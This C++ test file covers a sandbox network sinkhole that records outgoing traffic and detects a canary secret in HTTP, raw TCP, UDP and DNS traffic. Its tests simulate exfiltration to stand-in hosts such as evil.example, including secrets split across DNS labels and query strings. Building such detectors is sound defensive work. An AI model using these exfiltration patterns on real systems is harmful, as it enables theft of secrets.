#include "evidence/sinkhole.h"

#include <gmock/gmock.h>
#include <gtest/gtest.h>

#include "base/failure.h"
#include "evidence/sinkhole_for_tests.h"

namespace redcode::evidence {
namespace {

using testing::HasSubstr;

TEST_F(InASandboxNetwork, AnswersAnHttpRequestToAnyAddressAndKeepsIt) {
  const std::string request = "POST /in HTTP/1.1\r\nContent-Length: 26\r\n\r\n" + token;

  const std::string answer = watch([&] { return talk("203.0.113.9", 80, request); });

  EXPECT_THAT(answer, HasSubstr("200 OK"));
  EXPECT_EQ(kept, request);
  const record::Connected connected{.host = "", .address = "203.0.113.9", .port = 80};
  EXPECT_EQ(facts<record::Connected>(), std::vector{connected});
  const record::DataSent sent{.host = "",
                              .address = "203.0.113.9",
                              .port = 80,
                              .size = request.size(),
                              .digest = sha256_hex(request),
                              .head = request};
  EXPECT_EQ(facts<record::DataSent>(), std::vector{sent});
  const record::CanarySeen canary{.canary = "key",
                                  .place = record::CanaryPlace::network,
                                  .where = "203.0.113.9",
                                  .encoding = "plain"};
  EXPECT_EQ(facts<record::CanarySeen>(), std::vector{canary});
}

TEST_F(InASandboxNetwork, KeepsWhatIsSentBehindACompleteRequest) {
  const std::string request =
      "POST / HTTP/1.1\r\nContent-Length: 1\r\n\r\nx" + std::string(40'000, 'y') + token;

  watch([&] { return talk("203.0.113.9", 80, request); });

  EXPECT_EQ(kept.size(), request.size());
  EXPECT_EQ(facts<record::CanarySeen>().size(), 1U);
}

TEST_F(InASandboxNetwork, SearchesTheWholeOfANameServerPacket) {
  watch([&] { return resolve({"plain", "example"}, token); });

  const record::CanarySeen canary{.canary = "key",
                                  .place = record::CanaryPlace::network,
                                  .where = "plain.example",
                                  .encoding = "plain"};
  record::CanarySeen at_server = canary;  // whom it was sent to, whatever it asked for
  at_server.where = "198.18.0.53";
  EXPECT_EQ(facts<record::CanarySeen>(), (std::vector{canary, at_server}));
}

TEST_F(InASandboxNetwork, KnowsTheNameAnAddressWasGivenOutFor) {
  watch([&] { return talk(resolve({"Collector", "example"}), 80, "GET / HTTP/1.1\r\n\r\n"); });

  const record::NameLookedUp lookup{.host = "collector.example"};
  EXPECT_EQ(facts<record::NameLookedUp>(), std::vector{lookup});
  ASSERT_EQ(facts<record::DataSent>().size(), 1U);
  EXPECT_EQ(facts<record::DataSent>()[0].host, "collector.example");
}

TEST_F(InASandboxNetwork, SeesACanaryInsideAName) {
  watch([&] { return resolve({token, "evil", "example"}); });

  const record::CanarySeen canary{.canary = "key",
                                  .place = record::CanaryPlace::network,
                                  .where = token + ".evil.example",
                                  .encoding = "plain"};
  EXPECT_EQ(facts<record::CanarySeen>(), std::vector{canary});
}

TEST_F(InASandboxNetwork, SeesACanaryInPiecesOverSeveralNamesOfOneDomain) {
  watch([&] {
    resolve({token.substr(0, 12), "evil", "example"});
    return resolve({token.substr(12), "evil", "example"});
  });

  const record::CanarySeen canary{.canary = "key",
                                  .place = record::CanaryPlace::network,
                                  .where = "evil.example",
                                  .encoding = "pieces"};
  EXPECT_THAT(facts<record::CanarySeen>(), testing::Contains(canary));
}

TEST_F(InASandboxNetwork, SeesACanaryInPiecesOverSeveralRequestsToOneHost) {
  watch([&] {
    const auto address = resolve({"collector", "example"});
    talk(address, 80, "GET /?a=" + token.substr(0, 12) + " HTTP/1.1\r\n\r\n");
    return talk(address, 80, "GET /?b=" + token.substr(12) + " HTTP/1.1\r\n\r\n");
  });

  const record::CanarySeen canary{.canary = "key",
                                  .place = record::CanaryPlace::network,
                                  .where = "collector.example",
                                  .encoding = "pieces"};
  EXPECT_EQ(facts<record::CanarySeen>(), std::vector{canary});
}

TEST_F(InASandboxNetwork, SeesACanaryCutIntoLabels) {
  watch([&] { return resolve({token.substr(0, 10), token.substr(10), "evil", "example"}); });

  EXPECT_EQ(facts<record::CanarySeen>().size(), 1U);
}

TEST_F(InASandboxNetwork, KeepsWhatIsNotHttpUntilTheClientStops) {
  const std::string answer = watch([&] { return talk("198.51.100.7", 443, "raw bytes " + token); });

  EXPECT_EQ(answer, "");
  EXPECT_EQ(kept, "raw bytes " + token);
  EXPECT_EQ(facts<record::CanarySeen>().size(), 1U);
}

TEST_F(InASandboxNetwork, KeepsTheBeginningOfMuchAndSaysSo) {
  watch(
      [&] { return talk("198.51.100.7", 80, std::string(Connection::most_bytes + 100'000, 'x')); });

  EXPECT_EQ(kept.size(), Connection::most_bytes);
  ASSERT_EQ(facts<record::DataSent>().size(), 1U);
  EXPECT_EQ(facts<record::DataSent>()[0].size, Connection::most_bytes + 100'000);
  EXPECT_EQ(gaps(), std::vector<std::string>{"content 198.51.100.7"});
  EXPECT_EQ(lost(), 0U);
}

TEST_F(InASandboxNetwork, TakesAnUploadOfTwoMegabytesWhole) {
  const std::string body = std::string(2'000'000, 'x') + token;
  const std::string request =
      "POST / HTTP/1.1\r\nHost: a\r\nContent-Length: " + std::to_string(body.size()) + "\r\n\r\n" +
      body;

  const std::string answer = watch([&] { return talk("198.51.100.7", 80, request); });

  EXPECT_TRUE(answer.starts_with("HTTP/1.1 200"));
  EXPECT_EQ(kept, request);
  EXPECT_EQ(facts<record::CanarySeen>().size(), 1U);
  EXPECT_EQ(gaps(), std::vector<std::string>{});
  EXPECT_EQ(lost(), 0U);
}

TEST_F(InASandboxNetwork, FindsASecretBehindWhatIsKept) {
  const std::string much(Connection::most_bytes - 10, 'x');  // the secret is cut by the end of it

  watch([&] { return talk("198.51.100.7", 80, much + token + std::string(700'000, 'y')); });

  EXPECT_EQ(facts<record::CanarySeen>().size(), 1U);
}

TEST_F(InASandboxNetwork, TellsOfEachOfManyConnectionsAtATime) {
  watch([&] {
    std::vector<Fd> open;
    for (int i = 0; i < 300; ++i) {
      open.emplace_back(socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0));
      const sockaddr_in to = address_of("192.0.2.1", 9);
      connect(open.back().get(), reinterpret_cast<const sockaddr*>(&to), sizeof to);
      send(open.back().get(), "x", 1, MSG_NOSIGNAL);
    }
    return std::string();
  });

  EXPECT_EQ(facts<record::Connected>().size(), 300U);
  EXPECT_EQ(facts<record::DataSent>().size(), 300U);
  EXPECT_EQ(gaps(), std::vector<std::string>{});
  EXPECT_EQ(lost(), 0U);
}

TEST_F(InASandboxNetwork, FindsASecretCutUpOverSeveralNames) {
  watch([&] {
    for (std::size_t at = 0; at < token.size(); at += 6) {
      resolve({std::to_string(at), token.substr(at, 6), "evil", "example"});
      resolve({std::to_string(at), token.substr(at, 6), "evil", "example"});
    }
    return resolve({"www", "other", "example"});
  });

  const record::CanarySeen canary{.canary = "key",
                                  .place = record::CanaryPlace::network,
                                  .where = "evil.example",
                                  .encoding = "plain"};
  EXPECT_EQ(facts<record::CanarySeen>(), std::vector{canary});
}

TEST_F(InASandboxNetwork, KeepsWhatIsSentBehindAQuestionOfName) {
  const std::string behind(6'300, '\x9c');

  const std::string address = watch([&] { return resolve({"www", "test"}, behind); });

  EXPECT_NE(address, "");
  ASSERT_EQ(facts<record::DataSent>().size(), 1U);
  const record::DataSent sent = facts<record::DataSent>()[0];
  EXPECT_EQ(sent.address, "198.18.0.53");
  EXPECT_EQ(sent.port, 53);
  EXPECT_EQ(sent.transport, "udp");
  EXPECT_GT(sent.size, behind.size());
}

TEST_F(InASandboxNetwork, AFloodOfNamesOfOneDomainHidesNoOther) {
  watch([&] {
    for (std::size_t i = 0; i < NameServer::most_below + 200; ++i) {
      resolve({"n" + std::to_string(i), "flood", "example"});
    }
    return resolve({"www", "other", "example"});
  });

  EXPECT_EQ(facts<record::NameLookedUp>().size(), NameServer::most_below + 1);
  EXPECT_EQ(facts<record::NameLookedUp>().back().host, "www.other.example");
  EXPECT_EQ(gaps(), std::vector<std::string>{" flood.example"});
  EXPECT_EQ(lost(), 0U);
}

TEST_F(InASandboxNetwork, ReportsThatItOpenedAndClosedAndLostNothing) {
  watch([] { return std::string(); });

  const record::ObserverReport report{
      .observer = record::Observer::network, .opened = true, .closed = true};
  EXPECT_EQ(evidence.observers, std::vector{report});
  EXPECT_TRUE(evidence.observations.empty());
}

TEST_F(InASandboxNetwork, TakesInAConnectionWhoseSenderDiedJustBefore) {
  watch([&] {
    const Fd client(socket(AF_INET, SOCK_STREAM, 0));
    const sockaddr_in to = address_of("192.0.2.1", 80);
    connect(client.get(), reinterpret_cast<const sockaddr*>(&to), sizeof to);
    send(client.get(), token.data(), token.size(), 0);
    return std::string();
  });

  EXPECT_EQ(facts<record::CanarySeen>().size(), 1U);
  EXPECT_EQ(evidence.observers[0].lost, 0U);
}

void send_datagram(const std::string& address, std::uint16_t port, const std::string& bytes) {
  const Fd client(socket(AF_INET, SOCK_DGRAM | SOCK_CLOEXEC, 0));
  const sockaddr_in to = address_of(address, port);
  sendto(client.get(), bytes.data(), bytes.size(), 0, reinterpret_cast<const sockaddr*>(&to),
         sizeof to);
}

TEST_F(InASandboxNetwork, PutsDatagramsTogetherForEachTarget) {
  watch([&] {
    send_datagram("198.51.100.7", 514, "one " + token.substr(0, 10));
    send_datagram("198.51.100.7", 514, token.substr(10));
    send_datagram("198.51.100.7", 9999, "other");
    return std::string();
  });

  const std::vector<record::DataSent> sent = facts<record::DataSent>();
  ASSERT_EQ(sent.size(), 2U);
  EXPECT_EQ(sent[0].transport, "udp");
  EXPECT_EQ(sent[0].port, 514);
  EXPECT_EQ(sent[0].head, "one " + token);
  EXPECT_EQ(sent[1].head, "other");
  EXPECT_EQ(facts<record::CanarySeen>().size(), 1U);
  EXPECT_EQ(lost(), 0U);
}

TEST_F(InASandboxNetwork, KeepsWhatIsSentToANameServerAndIsNoQuery) {
  watch([&] {
    send_datagram("198.51.100.7", 53, "not a query");
    return std::string();
  });

  ASSERT_EQ(facts<record::DataSent>().size(), 1U);
  EXPECT_EQ(facts<record::DataSent>()[0].head, "not a query");
}

TEST_F(InASandboxNetwork, CountsAFloodOfDatagramsAsLost) {
  watch([&] {
    const std::string large(60'000, 'x');
    for (int i = 0; i < 400; ++i) send_datagram("198.51.100.7", 9, large);
    return std::string();
  });

  EXPECT_EQ(gaps(), std::vector<std::string>{"content 198.51.100.7"});
  ASSERT_EQ(facts<record::DataSent>().size(), 1U);
  EXPECT_GT(facts<record::DataSent>()[0].size, Datagrams::most_bytes);
  EXPECT_LE(kept.size(), Datagrams::most_bytes);
}

TEST_F(InASandboxNetwork, BoundsWhatAllOpenConnectionsHoldTogether) {
  canaries = Canaries(record::World());  // nothing to look for: that is measured elsewhere

  watch([&] {
    std::vector<Fd> open;
    const std::string most(Connection::most_bytes - 1, 'x');
    for (int i = 0; i < 9; ++i) {
      open.emplace_back(socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0));
      const timeval limit{.tv_sec = 2};
      setsockopt(open.back().get(), SOL_SOCKET, SO_SNDTIMEO, &limit, sizeof limit);
      const sockaddr_in to = address_of("192.0.2.1", 9);
      connect(open.back().get(), reinterpret_cast<const sockaddr*>(&to), sizeof to);
      send(open.back().get(), most.data(), most.size(), MSG_NOSIGNAL);
    }
    return std::string();
  });

  std::size_t kept_bytes = 0;
  for (const std::size_t size : all_kept) kept_bytes += size;
  EXPECT_LE(kept_bytes, NetworkNotes::most_kept);
  EXPECT_GT(kept_bytes, NetworkNotes::most_kept / 16);
  EXPECT_EQ(gaps(), std::vector<std::string>{"content 192.0.2.1"});
}

Task<> open_and_leave(pid_t pid, const Canaries& canaries, Ledger& ledger) {
  Sinkhole::abandon(co_await Sinkhole::open(pid, canaries, ledger));
}

TEST_F(InASandboxNetwork, EndsByItselfWhenItIsAbandoned) {
  run(open_and_leave(network->pid, canaries, ledger));

  EXPECT_FALSE(std::move(ledger).seal().observers[0].closed);
}

TEST_F(InASandboxNetwork, NeverTouchesThisHostsOwnNetwork) {
  EXPECT_THROW(open_sink_sockets(getpid()), Failure);
}

}  // namespace
}  // namespace redcode::evidence
